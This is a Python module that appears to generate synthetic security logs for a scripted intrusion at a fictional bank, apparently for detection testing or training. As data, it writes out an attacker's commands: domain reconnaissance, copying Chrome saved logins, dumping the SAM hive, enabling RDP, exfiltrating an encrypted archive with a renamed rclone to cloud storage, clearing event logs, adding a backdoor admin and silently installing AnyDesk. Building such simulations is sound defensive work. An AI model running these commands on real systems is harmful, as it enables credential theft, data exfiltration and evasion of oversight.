"""A bank: a stolen account copies the treasury's folder away. Times are seconds into the play."""

from . import world
from .paths import CMD, EXPLORER, SYS32
from .records import connection, digest, endpoint, file, sysmon, traffic, windows_log

JUMP, TREASURY = world.HARBOR.host("jump-01"), world.HARBOR.host("fs-treasury")
THIEF, THIEF_ADDRESS = "HARBOR\\r.vogel", "198.51.100.201"
CLOUD, CLOUD_NAME = "203.0.113.140", "gfs270n114.userstorage.mega.co.nz"
COPIER, STAGING = "C:\\PerfLogs\\svcsync.exe", "C:\\PerfLogs\\q.7z"


def stolen_account_comes_in():
    return [
        traffic(
            4.6,
            JUMP,
            THIEF_ADDRESS,
            3389,
            sent=848_211,
            received=120_440,
            direction="inbound",
            duration=61_000,
            application="rdp",
        ),
        endpoint(12.0, JUMP, EXPLORER, EXPLORER, parent=SYS32 + "userinit.exe", user=THIEF),
        endpoint(18.3, JUMP, CMD, "cmd.exe /c whoami /groups & quser & net view /domain", parent=EXPLORER, user=THIEF),
        endpoint(25.9, JUMP, SYS32 + "nltest.exe", "nltest /dclist:harbor.example", parent=CMD, user=THIEF),
        endpoint(28.4, JUMP, SYS32 + "net.exe", 'net group "Enterprise Admins" /domain', parent=CMD, user=THIEF),
        endpoint(
            40.7,
            JUMP,
            "C:\\PerfLogs\\af.exe",
            'af.exe -f "(objectcategory=computer)" -csv name operatingSystem',
            parent=CMD,
            user=THIEF,
            signed=False,
            folder="C:\\PerfLogs\\",
        ),
        endpoint(
            47.2,
            JUMP,
            CMD,
            'cmd /c copy "C:\\Users\\r.vogel\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" '
            "C:\\PerfLogs\\l",
            parent=EXPLORER,
            user=THIEF,
        ),
    ]


def over_to_the_treasury():
    session = SYS32 + "wsmprovhost.exe"
    key = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections"
    common = {
        "User": THIEF,
        "IntegrityLevel": "High",
        "CurrentDirectory": "C:\\Users\\r.vogel\\Documents\\",
        "ParentImage": session,
        "ParentCommandLine": f"{session} -Embedding",
    }
    return [
        traffic(60.1, JUMP, TREASURY.ip, 5985, sent=22_100, received=41_020, direction="internal", application="winrm"),
        sysmon(
            62.0,
            TREASURY,
            1,
            "HARBOR",
            Image=SYS32 + "whoami.exe",
            CommandLine='"C:\\Windows\\system32\\whoami.exe" /groups',
            OriginalFileName="whoami.exe",
            Hashes=f"SHA256={digest('whoami.exe')}",
            **common,
        ),
        sysmon(
            66.3,
            TREASURY,
            1,
            "HARBOR",
            Image=SYS32 + "reg.exe",
            OriginalFileName="reg.exe",
            Hashes=f"SHA256={digest('reg.exe')}",
            CommandLine='reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" '
            "/v fDenyTSConnections /t REG_DWORD /d 0 /f",
            **common,
        ),
        sysmon(
            66.5,
            TREASURY,
            13,
            "HARBOR",
            EventType="SetValue",
            Image=SYS32 + "reg.exe",
            TargetObject=key,
            Details="DWORD (0x00000000)",
            User=THIEF,
        ),
        traffic(
            72.8, JUMP, TREASURY.ip, 3389, sent=90_233, received=3_120_440, direction="internal", application="rdp"
        ),
        sysmon(
            79.4,
            TREASURY,
            1,
            "HARBOR",
            Image=SYS32 + "reg.exe",
            CommandLine="reg save HKLM\\SAM C:\\PerfLogs\\s.hiv /y",
            OriginalFileName="reg.exe",
            Hashes=f"SHA256={digest('reg.exe')}",
            **common,
        ),
    ]


def carried_off():
    pack = f"7z.exe a -pKh4xv1 -mhe=on {STAGING} D:\\Shares\\Treasury"
    copy = f"svcsync.exe copy {STAGING} mg:t --transfers 16 --no-check-certificate"
    events = [
        endpoint(
            90.5,
            TREASURY,
            "C:\\Program Files\\7-Zip\\7z.exe",
            pack,
            parent=CMD,
            user=THIEF,
            level="High",
            file_writes=[{"path": STAGING}],
        ),
        file(104.2, TREASURY, STAGING, 1_843_200_000, "application/x-7z-compressed", user=THIEF),
        endpoint(
            110.0,
            TREASURY,
            COPIER,
            copy,
            parent=CMD,
            user=THIEF,
            level="High",
            original="rclone.exe",
            signed=False,
            content="rclone.exe",
            folder="C:\\PerfLogs\\",
            network_connections=[connection(TREASURY, CLOUD, 443, CLOUD_NAME)],
        ),
    ]
    for n in range(7):
        events.append(
            traffic(
                116.0 + 8.5 * n,
                TREASURY,
                CLOUD,
                443,
                sent=262_144_000 + 1_048_576 * n,
                received=610_000,
                duration=8200,
                application="tls",
                tls_sni=CLOUD_NAME,
                tls_ja3="c279b0189edb9269da7bc43dea5e0c36",
            )
        )
    return events + [
        traffic(178.0, TREASURY, CLOUD, 443, sent=4_812_231_104, received=5_120_044, duration=58_000, application="tls")
    ]


def back_door_and_traces():
    wevtutil = SYS32 + "wevtutil.exe"
    cleared = [
        sysmon(
            206.0 + 2.1 * n,
            TREASURY,
            1,
            "HARBOR",
            Image=wevtutil,
            CommandLine=f"wevtutil.exe cl {log}",
            User=THIEF,
            IntegrityLevel="High",
            CurrentDirectory="C:\\PerfLogs\\",
            ParentImage=CMD,
            ParentCommandLine="cmd.exe",
            OriginalFileName="wevtutil.exe",
            Hashes=f"SHA256={digest('wevtutil.exe')}",
        )
        for n, log in enumerate(("Security", "System", '"Windows PowerShell"'))
    ]
    return cleared + [
        endpoint(
            186.3, JUMP, SYS32 + "net.exe", "net user svc_upd P4ss-w0rd-77 /add", parent=CMD, user=THIEF, level="High"
        ),
        endpoint(
            188.0,
            JUMP,
            SYS32 + "net.exe",
            "net localgroup administrators svc_upd /add",
            parent=CMD,
            user=THIEF,
            level="High",
        ),
        endpoint(
            195.7,
            JUMP,
            "C:\\Users\\Public\\AnyDesk.exe",
            "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent",
            parent=CMD,
            user=THIEF,
            level="High",
            signed=True,
        ),
        windows_log(
            206.6,
            TREASURY,
            "Security",
            1102,
            "HARBOR",
            "The audit log was cleared.",
            {"SubjectUserName": "r.vogel", "SubjectDomainName": "HARBOR", "SubjectLogonId": "0x5f21c"},
        ),
    ]


def story():
    return stolen_account_comes_in() + over_to_the_treasury() + carried_off() + back_door_and_traces()
